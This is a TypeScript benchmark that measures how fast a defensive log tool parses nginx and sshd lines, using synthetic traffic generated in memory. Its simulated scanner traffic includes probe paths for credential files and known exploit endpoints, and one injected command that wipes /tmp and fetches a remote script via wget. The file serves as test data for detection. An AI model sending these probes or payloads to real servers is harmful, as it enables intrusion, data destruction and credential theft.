/**
 * How fast the parsing stage reads nginx access lines, alone (no detection, no IO):
 *  - generates 1,000,000 realistic `combined` lines in memory with a seeded generator (benign traffic
 *    from ~20k clients incl. IPv6 and IPv4-mapped, ~5 % scanner traffic: .env / .php / wp-login probes,
 *    binary garbage, bad user agents);
 *  - measures lines/s of the hand-written combined parser, of a parser compiled from the same format
 *    as a pasted log_format, and of the compiled `main` format (combined + X-Forwarded-For +
 *    $request_time) on lines in that format;
 *  - each figure is the median of 5 passes over the million lines after a warm-up pass.
 *
 *   node bench/parse.ts [--lines N]
 */
import { manualClock } from '../src/core/clock.ts';
import type { LogLine } from '../src/core/events.ts';
import { createParser, type Parser } from '../src/parsing/index.ts';
import { seededRandom } from './lib/random.ts';

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const pad = (n: number) => (n < 10 ? `0${n}` : String(n));

function timeLocal(ms: number): string {
  const d = new Date(ms);
  return `${pad(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} +0000`;
}

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36',
  'okhttp/4.12.0',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
];
const PAGES = [
  '/',
  '/index.html',
  '/about',
  '/blog/2024/05/moat-release',
  '/static/app.3f9a1c.js',
  '/static/app.3f9a1c.css',
  '/images/logo.svg',
  '/favicon.ico',
  '/api/v1/items?page=2&limit=50',
  '/api/v1/items/4812',
  '/api/v1/session',
  '/search?q=self+hosted+firewall',
  '/robots.txt',
];
const PROBES = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/xmlrpc.php',
  '/wp-admin/setup-config.php',
  '/phpmyadmin/index.php',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/cgi-bin/luci/;stok=/locale',
  '/backup.zip',
  '/config.php.bak',
  '/.aws/credentials',
  '/public/index.php?s=/index/think/app/invokefunction',
  '/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/x.sh',
];
const BAD_AGENTS = [
  'sqlmap/1.8.3#stable (https://sqlmap.org)',
  'Mozilla/5.0 zgrab/0.x',
  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
  'Nikto/2.5.0',
  '-',
  'python-requests/2.31.0',
];

function benignAddress(random: () => number, index: number): string {
  const kind = index % 20;
  if (kind < 3)
    return `2001:db8:${((index * 7919) % 65536).toString(16)}:${(index % 251).toString(16)}::${(index % 4093).toString(16)}`;
  if (kind === 3) return `::ffff:198.51.${index % 256}.${(index >> 8) % 256}`;
  return `${[192, 198, 203][index % 3]}.${Math.floor(random() * 256)}.${(index >> 4) % 256}.${index % 256}`;
}

export interface GeneratedLog {
  readonly lines: string[];
  readonly attackLines: number;
}

/**
 * `count` combined lines (or `main` lines with X-Forwarded-For and $request_time when `main`), in time
 * order, ~12 per second, from ~20k benign clients and a few hundred scanners.
 */
export function generateCombinedLines(count: number, seed = 42, main = false): GeneratedLog {
  const random = seededRandom(seed);
  const benign = Array.from({ length: 20_000 }, (_, i) => benignAddress(random, i));
  const attackers = Array.from({ length: 300 }, (_, i) =>
    i % 10 === 0 ? `2001:db8:bad:${i.toString(16)}::1` : `203.0.113.${i % 256}`,
  );
  const lines: string[] = [];
  let attackLines = 0;
  let ms = Date.parse('2024-05-01T00:00:00Z');
  let stamp = timeLocal(ms);
  for (let n = 0; n < count; n++) {
    if (random() < 0.08) {
      ms += 1000;
      stamp = timeLocal(ms);
    }
    let line: string;
    if (random() < 0.05) {
      attackLines++;
      const ip = attackers[Math.floor(random() * attackers.length)];
      const agent = BAD_AGENTS[Math.floor(random() * BAD_AGENTS.length)];
      if (random() < 0.03) {
        line = `${ip} - - [${stamp}] "\\x16\\x03\\x01\\x00\\xF7\\x01\\x00\\x00\\xF3\\x03\\x03" 400 157 "-" "-"`;
      } else {
        const probe = PROBES[Math.floor(random() * PROBES.length)];
        const method = random() < 0.2 ? 'POST' : 'GET';
        line = `${ip} - - [${stamp}] "${method} ${probe} HTTP/1.1" ${random() < 0.9 ? 404 : 403} 153 "-" "${agent}"`;
      }
    } else {
      const ip = benign[Math.floor(random() * benign.length)];
      const page = PAGES[Math.floor(random() * PAGES.length)] ?? '/';
      const agent = BROWSERS[Math.floor(random() * BROWSERS.length)];
      const status = random() < 0.85 ? 200 : random() < 0.7 ? 304 : 404;
      const bytes = status === 304 ? 0 : Math.floor(random() * 50_000);
      const referer =
        random() < 0.5 ? '-' : `https://example.com${PAGES[Math.floor(random() * PAGES.length)]}`;
      const method = page.startsWith('/api/') && random() < 0.3 ? 'POST' : 'GET';
      line = `${ip} - - [${stamp}] "${method} ${page} HTTP/${random() < 0.6 ? '2.0' : '1.1'}" ${status} ${bytes} "${referer}" "${agent}"`;
    }
    if (main)
      line += ` "${random() < 0.7 ? '-' : '198.51.100.7'}" 0.${String(Math.floor(random() * 1000)).padStart(3, '0')}`;
    lines.push(line);
  }
  return { lines, attackLines };
}

/** `count` auth.log lines: password guessing, invalid users, scanners, and logins, from a few hundred addresses. */
export function generateSshdLines(count: number, seed = 7): string[] {
  const random = seededRandom(seed);
  const lines: string[] = [];
  let ms = Date.parse('2024-05-01T00:00:00Z');
  for (let n = 0; n < count; n++) {
    if (random() < 0.3) ms += 1000;
    const d = new Date(ms);
    const stamp = `${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, ' ')} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
    const ip = `203.0.113.${Math.floor(random() * 250)}`;
    const port = 30000 + Math.floor(random() * 30000);
    const pid = 1000 + Math.floor(random() * 9000);
    const r = random();
    const message =
      r < 0.4
        ? `Failed password for invalid user admin${n % 50} from ${ip} port ${port} ssh2`
        : r < 0.6
          ? `Invalid user oracle from ${ip} port ${port}`
          : r < 0.75
            ? `Connection closed by authenticating user root ${ip} port ${port} [preauth]`
            : r < 0.85
              ? `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip}  user=root`
              : r < 0.95
                ? `Received disconnect from ${ip} port ${port}:11: Bye Bye [preauth]`
                : `Accepted publickey for deploy from 192.0.2.10 port ${port} ssh2: ED25519 SHA256:q1X0qQ3rR5c7W1mYw6mC4Tt0Xy0L2d3gWg3m3pTq0Xs`;
    lines.push(`${stamp} web1 sshd[${pid}]: ${message}`);
  }
  return lines;
}

function measure(name: string, parser: Parser, lines: readonly LogLine[]): number {
  let matched = 0;
  let checksum = 0;
  const pass = () => {
    matched = 0;
    const start = process.hrtime.bigint();
    for (let i = 0; i < lines.length; i++) {
      const event = parser.parse(lines[i] as LogLine);
      if (event !== undefined) {
        matched++;
        checksum += event.status ?? 0;
      }
    }
    return Number(process.hrtime.bigint() - start) / 1e9;
  };
  pass(); // warm-up: lets V8 optimise the parser
  const seconds: number[] = [];
  for (let run = 0; run < 5; run++) seconds.push(pass());
  seconds.sort((a, b) => a - b);
  const median = seconds[2] ?? 0;
  const rate = lines.length / median;
  console.log(
    `${name.padEnd(34)} ${(rate / 1e6).toFixed(2).padStart(6)} M lines/s  (median of 5: ${(median * 1000).toFixed(0)} ms for ${lines.length.toLocaleString('en')} lines, ${matched.toLocaleString('en')} matched, best ${(lines.length / (seconds[0] ?? 1) / 1e6).toFixed(2)} M/s)`,
  );
  if (matched !== lines.length)
    console.log(`  !! ${lines.length - matched} lines did not parse (checksum ${checksum})`);
  return rate;
}

/**
 * The lines as a file tail hands them over: one big decoded text split at newlines (so each line is a
 * slice of its chunk, not a freshly built string), wrapped in LogLines.
 */
function asLogLines(texts: readonly string[]): LogLine[] {
  const split = texts.join('\n').split('\n');
  let offset = 0;
  return split.map((text) => {
    const line = { source: 'bench', text, offset, readAtMs: 0 };
    offset += text.length + 1;
    return line;
  });
}

if (import.meta.main) {
  const flag = process.argv.indexOf('--lines');
  const count = flag > 0 ? Number(process.argv[flag + 1]) : 1_000_000;
  const clock = manualClock(Date.parse('2024-06-01T00:00:00Z'));

  const start = performance.now();
  const combined = generateCombinedLines(count, 42);
  const main = generateCombinedLines(count, 42, true);
  const combinedLines = asLogLines(combined.lines);
  const mainLines = asLogLines(main.lines);
  const bytes = combined.lines.reduce((sum, line) => sum + line.length + 1, 0);
  console.log(
    `generated 2 × ${count.toLocaleString('en')} lines in ${(performance.now() - start).toFixed(0)} ms ` +
      `(combined: ${(bytes / 1e6).toFixed(0)} MB, ${((100 * combined.attackLines) / count).toFixed(1)} % attack traffic)`,
  );
  console.log(`node ${process.version}, one core\n`);

  const handWritten = createParser({ format: 'nginx-combined' }, clock);
  const compiledCombined = createParser(
    {
      format: 'nginx-log-format',
      logFormat: `log_format combined '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent"';`,
    },
    clock,
  );
  const compiledMain = createParser(
    {
      format: 'nginx-log-format',
      logFormat: `log_format main '$remote_addr - $remote_user [$time_local] "$request" '
                      '$status $body_bytes_sent "$http_referer" '
                      '"$http_user_agent" "$http_x_forwarded_for" $request_time';`,
    },
    clock,
  );
  measure('nginx-combined (hand-written)', handWritten, combinedLines);
  measure('nginx-log-format: combined', compiledCombined, combinedLines);
  measure('nginx-log-format: main (+xff, rt)', compiledMain, mainLines);

  // For scale: the low-volume formats on 200k lines.
  const sshdLines = asLogLines(generateSshdLines(200_000));
  measure('sshd (auth.log)', createParser({ format: 'sshd' }, clock), sshdLines);
}
